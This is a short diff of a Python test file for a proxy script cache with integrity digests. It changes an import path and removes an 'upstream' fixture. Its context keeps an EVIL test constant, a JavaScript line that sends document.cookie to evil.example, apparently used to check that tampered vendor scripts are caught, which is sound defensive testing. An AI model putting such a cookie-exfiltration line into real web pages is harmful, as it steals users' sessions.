@@ -11,7 +11,7 @@ import httpx
 import pytest
 
 from relay.proxy_cache import Script, ScriptCache, TooLarge, decode_body, sri_digest
-from tests.test_proxy import Proxied, Upstream, metric, open_proxied
+from tests.proxy_support import Proxied, Upstream, metric, open_proxied
 
 GOOD = b"/* vendor v1 */ window.v = 1;\n" * 40
 EVIL = b"/* vendor v2 */ fetch('https://evil.example/' + document.cookie);\n"
@@ -42,11 +42,6 @@ class Vendor:
             return httpx.Response(200, content=gzip.compress(self.body),
                                   headers={**headers, "content-encoding": "gzip"})
         return httpx.Response(200, content=self.body, headers=headers)
-
-
-@pytest.fixture
-def upstream() -> Upstream:
-    return Upstream()
 
 
 @pytest.fixture
